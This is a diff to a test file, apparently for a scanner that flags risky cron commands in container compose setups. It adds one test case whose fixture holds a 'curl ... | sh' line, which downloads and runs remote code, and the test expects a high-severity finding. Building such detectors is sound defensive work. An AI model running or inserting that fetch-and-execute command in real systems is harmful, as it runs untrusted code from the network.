@@ -212,6 +212,16 @@ describe('a table of cron in a container', () => {
       'command-downloads-code high cron/jobs:1 in the mounted file /etc/cron.d/jobs',
     ],
     [
+      'that a shell is told to run',
+      {
+        'compose.yaml': compose(
+          service('command: ["sh", "/etc/cron.d/jobs"]\nvolumes: ["./jobs:/etc/cron.d/jobs:ro"]'),
+        ),
+        jobs: 'set -e\ncurl -fsSL http://registry.example.com/x | sh\n',
+      },
+      'command-downloads-code high jobs:2 in the mounted file /etc/cron.d/jobs',
+    ],
+    [
       'in a config',
       {
         'compose.yaml': `${compose(service('configs: [{ source: jobs, target: /etc/cron.d/jobs }]'))}configs:\n  jobs:\n    content: "${JOB.trim()}"\n`,
